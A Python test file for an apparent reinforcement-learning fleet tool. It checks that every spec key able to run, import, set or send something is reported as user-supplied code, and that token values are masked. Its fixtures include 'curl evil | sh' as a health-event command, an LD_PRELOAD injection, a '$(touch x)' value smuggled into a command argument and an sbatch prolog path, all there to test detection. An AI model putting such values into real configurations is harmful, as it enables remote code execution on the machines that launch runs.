"""What a spec would run or set: every key is known as harmless or as own code, and all own code is said."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from msgspec import inspect

from mission_tui.fleet.specs.own_code import OwnCode, own_code, own_code_words
from mission_tui.fleet.specs.preset import as_tables, from_tables, read_preset, resolve
from mission_tui.fleet.specs.sb3_algorithms import OTHERS
from mission_tui.fleet.specs.schema import members
from mission_tui.fleet.specs.spec import EnvSpec, RunSpec, SlurmSpec, Spec
from mission_tui.fleet.specs.thresholds import HealthKeep, RuleLimits
from mission_tui.paths import shipped_presets
from mission_tui.records.preset_files import find_presets
from mission_tui.search.plan import SearchPlan, driver_item

CODE_KEYS: Mapping[str, str] = {
    "env.id": "`module:id` imports the module",
    "env.kwargs": "a value may be `module:Name`, which the environment may import",
    "env.wrappers": "classes that are imported and made",
    "env.imports": "modules that are imported",
    "ppo.policy": "`module:Class` is imported and made",
    "ppo.policy_kwargs": "`module:Class` is imported and made",
    **{
        f"{name}.{key}": "`module:Class` is imported and made" for name in OTHERS for key in ("policy", "policy_kwargs")
    },
    "run.command": "a program",
    "run.resume_command": "a program",
    "run.values": "words of that program's",
    "run.python": "the interpreter that everything runs in",
    "run.cwd": "the folder that relative names are of",
    "run.env": "variables such as PYTHONPATH and LD_PRELOAD decide what is loaded",
    "run.env_file": "variables too",
    "run.pythonpath": "in front of every other folder of modules",
    "run.callbacks": "classes that are imported and made",
    "keep.health.on_event": "a command of the shell",
    "keep.health.apprise": "sends messages through apprise",
    "run.track": "sends settings and curves with the launching person's key",
    "slurm.extra": "words for sbatch, some of which name programs and files",
    "ray.address": "to whom the run is sent, with its variables and the launching person's token",
}
"""Every key of a spec that can have something run, imported, set or sent, and how."""

HARMLESS_KEYS = frozenset(
    {
        *("preset", "description", "profile"),
        *("env.n_envs", "env.vec", "env.n_workers", "env.frame_stack", "env.normalize"),
        "env.config",  # a folder of rules, which are read as TOML and copied
        *("ppo.n_steps", "ppo.batch_size", "ppo.n_epochs", "ppo.learning_rate", "ppo.gamma", "ppo.gae_lambda"),
        *("ppo.clip_range", "ppo.clip_range_vf", "ppo.normalize_advantage", "ppo.ent_coef", "ppo.vf_coef"),
        *("ppo.max_grad_norm", "ppo.use_sde", "ppo.sde_sample_freq", "ppo.target_kl", "ppo.stats_window_size"),
        *("ppo.net_arch", "ppo.algo"),
        *("run.total_timesteps", "run.duration_s", "run.seed", "run.device", "run.threads", "run.auto_scale"),
        *("run.engine", "run.precision", "run.compile", "run.tf32", "run.grace_s", "run.launcher", "run.goal"),
        *("run.preload", "run.algo", "run.track_checkpoints", "keep.checkpoint.replay_buffer"),
        # The settings of other algorithms; an entropy coefficient is a number, or a word that is compared.
        *(
            f"{name}.{key}"
            for name, it in OTHERS.items()
            for key in it.table.__struct_fields__
            if key not in ("policy", "policy_kwargs", "action_noise")
        ),
        *(f"{name}.action_noise.{key}" for name in ("sac", "td3", "ddpg", "tqc", "crossq") for key in ("kind", "std")),
        # One argument of sbatch each, and never a word of their own.
        *("slurm.partition", "slurm.account", "slurm.qos", "slurm.gres", "slurm.constraint", "slurm.time", "slurm.mem"),
        *("slurm.cpus", "slurm.warn_s", "slurm.requeue", "slurm.pack"),
        # Amounts, and names of nodes' resources and labels, which Ray compares.
        *("ray.gpus", "ray.cpus", "ray.memory", "ray.resources", "ray.labels", "ray.autoscales", "ray.requeue"),
        "run.follow",  # logs that are read as text, numbers and TensorBoard's records
        *("keep.checkpoint.every_s", "keep.checkpoint.every_steps", "keep.checkpoint.last", "keep.checkpoint.spread"),
        *("keep.restart.most", "keep.restart.wait_s", "keep.restart.also", "keep.on_reboot", "keep.health.profile"),
        *("keep.limits.disk_free", "keep.limits.ram_free", "keep.limits.vram_free", "keep.limits.cores_free"),
        *(
            "keep.limits.runs",
            "keep.limits.runs_per_gpu",
            "keep.limits.group_runs",
            "keep.limits.priority",
            "keep.limits.marginal_gain",
        ),
        "keep.limits.queue",
        *("evaluate.every", "evaluate.episodes", "evaluate.deterministic", "evaluate.share"),
    }
)
"""Every other key, but those of the health rules' own tables: numbers and words that are only compared or shown."""

TABLE: dict[str, Any] = {"env": {"id": "CartPole-v1"}, "run": {"total_timesteps": 1000}}


def spec(**tables: dict[str, Any]) -> Spec:
    """A preset with some keys of its tables."""
    below = {} if "command" in tables.get("run", {}) else TABLE
    table = {name: below.get(name, {}) | tables.get(name, {}) for name in {*below, *tables}}
    return resolve(read_preset(table, Path("presets/my.toml")), pytest.fail)


def keys(struct: type, prefix: str = "") -> Iterator[tuple[str, inspect.Field]]:
    """Every key of a table by its dotted name; a table that a key takes besides other things counts as one key."""
    info = inspect.type_info(struct)
    assert isinstance(info, inspect.StructType)
    for field in info.fields:
        inner = members(field.type)
        if all(isinstance(member, inspect.StructType) for member in inner):
            for member in inner:
                assert isinstance(member, inspect.StructType)
                yield from keys(member.cls, f"{prefix}{field.encode_name}.")
        else:
            yield f"{prefix}{field.encode_name}", field


def holds_text(kind: inspect.Type) -> bool:
    """Whether a value of the type can be words that somebody chose; keys of a table are not values."""
    return isinstance(kind, inspect.StrType | inspect.AnyType) or any(
        holds_text(getattr(kind, part)) for part in ("item_type", "value_type") if hasattr(kind, part)
    )


def rule_keys() -> set[str]:
    """The keys of the health rules' own tables."""
    info = inspect.type_info(HealthKeep)
    assert isinstance(info, inspect.StructType)
    rules = [
        it for it in info.fields if isinstance(it.type, inspect.StructType) and issubclass(it.type.cls, RuleLimits)
    ]
    found = {
        f"keep.health.{rule.encode_name}.{key}": field
        for rule in rules
        if isinstance(rule.type, inspect.StructType)
        for key, field in keys(rule.type.cls)
    }
    assert not [key for key, field in found.items() if any(holds_text(kind) for kind in members(field.type))]
    return set(found)


def test_every_key_of_a_spec_is_known_as_harmless_or_as_own_code() -> None:
    """A new key that nobody has thought about fails here; the rules' tables hold numbers and fixed words alone."""
    every = dict(keys(Spec))
    assert len(every) > 150
    assert set(every) - rule_keys() == {*CODE_KEYS, *HARMLESS_KEYS}
    assert not HARMLESS_KEYS & set(CODE_KEYS)


def test_harmless_keys_that_hold_free_words_are_few_and_known() -> None:
    """Numbers, switches and words from a list cannot name anything; what else is harmless is so for a reason."""
    free = {key for key, field in keys(Spec) if any(holds_text(kind) for kind in members(field.type))}
    program_words = {"run.device", "run.follow", "run.launcher", "run.goal", "ray.labels"}
    program_words |= {"sac.ent_coef", "tqc.ent_coef", "crossq.ent_coef"}
    program_words |= {
        f"slurm.{name}"
        for name in SlurmSpec.__struct_fields__
        if name not in ("cpus", "warn_s", "requeue", "extra", "pack")
    }
    assert free & HARMLESS_KEYS == {"preset", "description", "profile", "env.config", *program_words}


NAMED: dict[str, tuple[dict[str, dict[str, Any]], OwnCode]] = {
    "run.track": (
        {"run": {"track": "wandb"}},
        OwnCode("tracker", "run.track", "sends settings and curves to what your wandb names"),
    ),
    "env.id": ({"env": {"id": "my_envs:Mine-v0"}}, OwnCode("environment", "env.id", "my_envs:Mine-v0")),
    "env.kwargs": (
        {"env": {"kwargs": {"a": [{"b": "my_envs:Reward"}]}}},
        OwnCode("class", "env.kwargs.a[0].b", "my_envs:Reward"),
    ),
    "env.wrappers": (
        {"env": {"wrappers": [{"cls": "my:Noisy", "kwargs": {"scale": 2}}]}},
        OwnCode("wrapper", "env.wrappers", "my:Noisy(scale=2)"),
    ),
    "env.imports": ({"env": {"imports": ["my_envs"]}}, OwnCode("imports", "env.imports", "my_envs")),
    "ppo.policy": ({"ppo": {"policy": "my:Policy"}}, OwnCode("policy", "ppo.policy", "my:Policy")),
    "ppo.policy_kwargs": (
        {"ppo": {"policy_kwargs": {"features_extractor_class": "my:Net"}}},
        OwnCode("class", "ppo.policy_kwargs.features_extractor_class", "my:Net"),
    ),
    **{
        f"{name}.policy": (
            {"run": {"algo": name}, name: {"policy": "my:Policy"}},
            OwnCode("policy", f"{name}.policy", "my:Policy"),
        )
        for name in OTHERS
    },
    **{
        f"{name}.policy_kwargs": (
            {"run": {"algo": name}, name: {"policy_kwargs": {"features_extractor_class": "my:Net"}}},
            OwnCode("class", f"{name}.policy_kwargs.features_extractor_class", "my:Net"),
        )
        for name in OTHERS
    },
    "run.command": (
        {"run": {"command": ["sh", "-c", "touch x"]}},
        OwnCode("command", "run.command", "sh -c 'touch x'"),
    ),
    "run.resume_command": (
        {"run": {"command": ["a"], "resume_command": ["b", "--again"]}},
        OwnCode("resume command", "run.resume_command", "b --again"),
    ),
    "run.values": (
        {"run": {"command": ["a", "--lr={lr}", "{seed}", "{x}"], "values": {"lr": "$(touch x)"}, "seed": 3}},
        OwnCode("command", "run.command", "a '--lr=$(touch x)' 3 '{x}'"),
    ),
    "run.python": ({"run": {"python": "./python"}}, OwnCode("python", "run.python", "./python")),
    "run.cwd": ({"run": {"cwd": "elsewhere"}}, OwnCode("folder", "run.cwd", "elsewhere")),
    "run.env": ({"run": {"env": {"LD_PRELOAD": "./x.so"}}}, OwnCode("variable", "run.env", "LD_PRELOAD=./x.so")),
    "run.env_file": ({"run": {"env_file": "k.env"}}, OwnCode("env file", "run.env_file", "k.env")),
    "run.pythonpath": ({"run": {"pythonpath": ["."]}}, OwnCode("pythonpath", "run.pythonpath", ".")),
    "run.callbacks": ({"run": {"callbacks": ["my:Callback"]}}, OwnCode("callback", "run.callbacks", "my:Callback")),
    "keep.health.on_event": (
        {"keep": {"health": {"on_event": "curl evil | sh"}}},
        OwnCode("on_event", "keep.health.on_event", "curl evil | sh"),
    ),
    "keep.health.apprise": (
        {"keep": {"health": {"apprise": True}}},
        OwnCode("apprise", "keep.health.apprise", "sends to what your apprise configuration names"),
    ),
    "ray.address": ({"ray": {"address": "http://x:1"}}, OwnCode("ray address", "ray.address", "http://x:1")),
    "slurm.extra": ({"slurm": {"extra": ["--prolog=./x"]}}, OwnCode("sbatch", "slurm.extra", "--prolog=./x")),
}


@pytest.mark.parametrize("key", NAMED)
def test_what_a_key_would_run_is_said(key: str) -> None:
    """The kind, the key and the value as it was written; the same from the tables of a run's own file."""
    tables, expected = NAMED[key]
    made = spec(**tables)
    assert expected in own_code(made)
    assert own_code(from_tables(as_tables(made), "spec.toml")) == own_code(made)


def test_every_key_that_can_run_something_is_tried() -> None:
    """The table above has them all."""
    assert set(NAMED) == set(CODE_KEYS)


def test_what_came_with_the_program_is_not_own_code() -> None:
    """Registered ids, envpool's tasks, our own wrapper, names that torch or SB3 are asked for, files in a run."""
    assert own_code(spec()) == ()
    assert own_code(spec(run={"track": "tensorboard"})) == ()
    assert own_code(spec(env={"id": "envpool:Pong-v5", "kwargs": {"num_threads": 2}})) == ()
    assert own_code(spec(env={"wrappers": ["mission_tui.envs.atari:AtariWrapper"]})) == ()
    assert own_code(spec(ppo={"policy_kwargs": {"activation_fn": "torch.nn.ReLU"}})) == ()
    assert [it.value for it in own_code(spec(env={"id": "envpool:x:Pong-v5"}))] == ["envpool:x:Pong-v5"]
    assert own_code(spec(env={"wrappers": ["mission_tui.procfs:read"]})), "only what was made to be named"


def test_shipped_presets_name_no_code_but_packages_that_are_installed() -> None:
    """What comes with the program imports at most the packages of its own extras."""
    presets, broken = find_presets((shipped_presets(),))
    assert not broken
    named = [
        code
        for preset in presets.values()
        if not preset.launch
        for code in own_code(resolve(preset, lambda base: presets[base]))
    ]
    assert {(code.kind, code.value) for code in named} <= {("imports", "ale_py"), ("imports", "cv2")}


def test_what_a_search_would_launch_is_said_with_its_driver() -> None:
    """The plan among its values holds a whole spec, and settings that trials are launched with."""
    base = spec(env={"imports": ["mine"]}, keep={"health": {"on_event": "sh x"}})
    plan = SearchPlan(base=base, params=('env.imports=["a"],["b c"]',))
    found = own_code(driver_item(plan, "cart-3f9a", ("python", "-m", "mission_tui.search")).spec)
    assert set(own_code(base)) <= set(found)
    assert OwnCode("search", "run.values.plan", """'--param=env.imports=["a"],["b c"]'""") in found


def test_secret_variables_are_named_without_their_values() -> None:
    """A sheet or a document with own code must not be where a token is read."""
    made = Spec(preset="x", run=RunSpec(env={"HF_TOKEN": "abc", "X": "1"}))
    assert [it.value for it in own_code(made)] == ["HF_TOKEN=(secret)", "X=1"]


def test_arguments_without_end_are_said_to_be_so() -> None:
    """Tables in tables in tables are walked so deep and no deeper."""
    deep: Any = "my:Class"
    for _ in range(60):
        deep = {"a": deep}
    made = Spec(preset="x", env=EnvSpec(id="CartPole-v1", kwargs=deep))
    assert [it.value for it in own_code(made)] == ["tables too deep to be read"]


def test_one_line_says_each_kind_once() -> None:
    """What a command line says before it starts something."""
    made = spec(env={"imports": ["a", "b"]}, keep={"health": {"on_event": "sh x"}})
    assert own_code_words(own_code(made)) == "imports a, b; on_event sh x"
